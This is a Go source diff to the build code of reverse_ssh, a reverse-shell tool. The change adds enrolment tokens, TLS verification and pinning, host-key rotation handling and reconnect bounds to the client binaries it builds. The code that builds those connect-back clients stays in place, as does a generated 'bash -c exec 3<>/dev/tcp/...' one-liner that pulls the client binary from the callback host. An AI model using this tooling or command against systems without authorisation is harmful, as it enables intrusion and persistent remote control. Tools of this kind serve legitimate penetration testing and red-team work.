@@ -2,6 +2,7 @@ package webserver
 
 import (
 	"bytes"
+	"encoding/base64"
 	"errors"
 	"fmt"
 	"net"
@@ -11,9 +12,12 @@ import (
 	"runtime"
 	"strconv"
 	"strings"
+	"time"
 
 	"github.com/NHAS/reverse_ssh/internal"
 	"github.com/NHAS/reverse_ssh/internal/server/data"
+	"github.com/NHAS/reverse_ssh/internal/server/hostkeys"
+	"github.com/NHAS/reverse_ssh/internal/server/tlsca"
 	"github.com/NHAS/reverse_ssh/pkg/logger"
 	"github.com/NHAS/reverse_ssh/pkg/trie"
 	"golang.org/x/crypto/ssh"
@@ -43,12 +47,26 @@ type BuildConfig struct {
 
 	GOOS, GOARCH, GOARM string
 
+	// Fingerprint may hold several comma separated fingerprints
 	ConnectBackAdress, Fingerprint string
 
 	Proxy, SNI, LogLevel string
 
 	UseKerberosAuth bool
 
+	// Client refuses to run without a pinned server fingerprint
+	Strict bool
+
+	// Verify the servers TLS certificate against the rssh CA and system roots
+	TLSVerify bool
+	// Comma separated TLS public key pins
+	TLSPins string
+	// Issue the client a certificate from the rssh CA
+	TLSClientCert bool
+
+	// Bounds on the clients reconnect backoff, as durations e.g 30s
+	RetryMin, RetryMax string
+
 	SharedLibrary bool
 	UPX           bool
 	Lzma          bool
@@ -62,6 +80,10 @@ type BuildConfig struct {
 	NTLMProxyCreds string
 
 	VersionString string
+
+	// Bake a one time enrolment token rather than a private key, the client generates its own key on first run
+	Enrol             bool
+	EnrolmentLifetime time.Duration
 }
 
 func Build(config BuildConfig) (string, error) {
@@ -78,7 +100,14 @@ func Build(config BuildConfig) (string, error) {
 	}
 
 	if len(config.Fingerprint) == 0 {
-		config.Fingerprint = defaultFingerPrint
+		config.Fingerprint = defaultFingerprint()
+
+		// Mid rotation, so trust the upcoming key too otherwise new clients will break when it activates
+		for _, k := range hostkeys.List() {
+			if k.State == "next" {
+				config.Fingerprint += "," + k.Fingerprint
+			}
+		}
 	}
 
 	var upxBinary string
@@ -156,34 +185,79 @@ func Build(config BuildConfig) (string, error) {
 
 	}
 
-	newPrivateKey, err := internal.GeneratePrivateKey()
-	if err != nil {
-		return "", err
-	}
+	var (
+		publicKeyBytes []byte
+		enrolmentToken string
+	)
 
-	sshPriv, err := ssh.ParsePrivateKey(newPrivateKey)
-	if err != nil {
-		return "", err
+	if config.Enrol {
+		enrolmentToken, err = data.CreateEnrolmentToken(config.Name, config.Owners, config.Comment, config.EnrolmentLifetime)
+		if err != nil {
+			return "", err
+		}
+
+		// The client still embeds the file, so make sure no previous builds key is left in it
+		err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key"), nil, 0600)
+		if err != nil {
+			return "", err
+		}
+	} else {
+		newPrivateKey, err := internal.GeneratePrivateKey()
+		if err != nil {
+			return "", err
+		}
+
+		sshPriv, err := ssh.ParsePrivateKey(newPrivateKey)
+		if err != nil {
+			return "", err
+		}
+
+		err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key"), newPrivateKey, 0600)
+		if err != nil {
+			return "", err
+		}
+
+		publicKeyBytes = ssh.MarshalAuthorizedKey(sshPriv.PublicKey())
+
+		err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key.pub"), publicKeyBytes, 0600)
+		if err != nil {
+			return "", err
+		}
 	}
 
-	err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key"), newPrivateKey, 0600)
+	// If the build fails dont leave a token lying around that can never be used
+	built := false
+	defer func() {
+		if !built && enrolmentToken != "" {
+			data.RevokeEnrolmentTokens(config.Name)
+		}
+	}()
+
+	_, err = logger.StrToUrgency(config.LogLevel)
 	if err != nil {
 		return "", err
 	}
 
-	publicKeyBytes := ssh.MarshalAuthorizedKey(sshPriv.PublicKey())
+	var tlsCA, tlsClientCert string
+	if config.TLSVerify {
+		caPem, err := tlsca.CertificatePEM()
+		if err != nil {
+			return "", err
+		}
 
-	err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key.pub"), publicKeyBytes, 0600)
-	if err != nil {
-		return "", err
+		tlsCA = base64.StdEncoding.EncodeToString(caPem)
 	}
 
-	_, err = logger.StrToUrgency(config.LogLevel)
-	if err != nil {
-		return "", err
+	if config.TLSClientCert {
+		bundle, err := tlsca.IssueClientCertificate(config.Name)
+		if err != nil {
+			return "", err
+		}
+
+		tlsClientCert = base64.StdEncoding.EncodeToString(bundle)
 	}
 
-	buildArguments = append(buildArguments, fmt.Sprintf("-ldflags=-s -w -X main.logLevel=%s -X main.destination=%s -X main.fingerprint=%s -X main.proxy=%s -X main.customSNI=%s -X main.useHostKerberos=%t -X main.ntlmProxyCreds=%s -X main.versionString=%s -X github.com/NHAS/reverse_ssh/internal.Version=%s", config.LogLevel, config.ConnectBackAdress, config.Fingerprint, config.Proxy, config.SNI, config.UseKerberosAuth, config.NTLMProxyCreds, strings.TrimSpace(config.VersionString), strings.TrimSpace(f.Version)))
+	buildArguments = append(buildArguments, fmt.Sprintf("-ldflags=-s -w -X main.logLevel=%s -X main.destination=%s -X main.fingerprint=%s -X main.proxy=%s -X main.customSNI=%s -X main.useHostKerberos=%t -X main.ntlmProxyCreds=%s -X main.versionString=%s -X main.enrolmentToken=%s -X main.strict=%t -X main.tlsVerify=%t -X main.tlsPins=%s -X main.tlsCA=%s -X main.tlsClientCert=%s -X main.retryMin=%s -X main.retryMax=%s -X github.com/NHAS/reverse_ssh/internal.Version=%s", config.LogLevel, config.ConnectBackAdress, config.Fingerprint, config.Proxy, config.SNI, config.UseKerberosAuth, config.NTLMProxyCreds, strings.TrimSpace(config.VersionString), enrolmentToken, config.Strict, config.TLSVerify, config.TLSPins, tlsCA, tlsClientCert, config.RetryMin, config.RetryMax, strings.TrimSpace(f.Version)))
 	buildArguments = append(buildArguments, "-o", f.FilePath, filepath.Join(projectRoot, "/cmd/client"))
 
 	cmd := exec.Command(buildTool, buildArguments...)
@@ -268,8 +342,15 @@ func Build(config BuildConfig) (string, error) {
 		return "", err
 	}
 
+	built = true
+
 	Autocomplete.Add(config.Name)
 
+	if config.Enrol {
+		// The key is added to authorized_controllee_keys when the client enrols
+		return link(config, f), nil
+	}
+
 	authorizedControlleeKeys, err := os.OpenFile(filepath.Join(cachePath, "../authorized_controllee_keys"), os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0600)
 	if err != nil {
 		return "", errors.New("cant open authorized controllee keys file: " + err.Error())
@@ -280,17 +361,22 @@ func Build(config BuildConfig) (string, error) {
 		return "", errors.New("cant write newly generated key to authorized controllee keys file: " + err.Error())
 	}
 
+	return link(config, f), nil
+}
+
+func link(config BuildConfig, f data.Download) string {
 	if config.RawDownload {
 
-		host, port, err := net.SplitHostPort(f.CallbackAddress)
+		first, _, _ := strings.Cut(f.CallbackAddress, ",")
+		host, port, err := net.SplitHostPort(first)
 		if err != nil {
-			return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/HOSTHERE/PORT_HERE; echo RAW%[1]s>&3; cat <&3" > %[1]s`, config.Name), nil
+			return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/HOSTHERE/PORT_HERE; echo RAW%[1]s>&3; cat <&3" > %[1]s`, config.Name)
 		}
 
-		return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/%s/%s; echo RAW%[3]s>&3; cat <&3" > %[3]s`, host, port, config.Name), nil
+		return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/%s/%s; echo RAW%[3]s>&3; cat <&3" > %[3]s`, host, port, config.Name)
 	}
 
-	return "http://" + DefaultConnectBack + "/" + config.Name, nil
+	return "http://" + DefaultConnectBack + "/" + config.Name
 }
 
 func startBuildManager(_cachePath string) error {